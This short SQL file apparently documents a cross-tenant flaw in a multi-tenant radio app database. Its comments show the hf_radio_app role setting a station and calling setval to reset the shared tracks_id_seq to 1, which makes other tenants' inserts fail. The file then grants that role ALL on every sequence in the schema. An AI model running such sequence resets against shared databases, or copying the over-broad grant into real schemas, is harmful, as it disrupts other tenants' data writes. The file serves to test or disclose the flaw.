-- Tenant A sets the common sequence back, and the inserts of all others fail.
-- about: tracks_id_seq, shows_id_seq, hosts_id_seq
-- as: hf_radio_app
-- exploit: SET radio.station = '1';
-- exploit: SELECT 'moved to ' || setval('radio.tracks_id_seq', 1);
-- shows: moved to 1
GRANT ALL ON ALL SEQUENCES IN SCHEMA radio TO hf_radio_app;
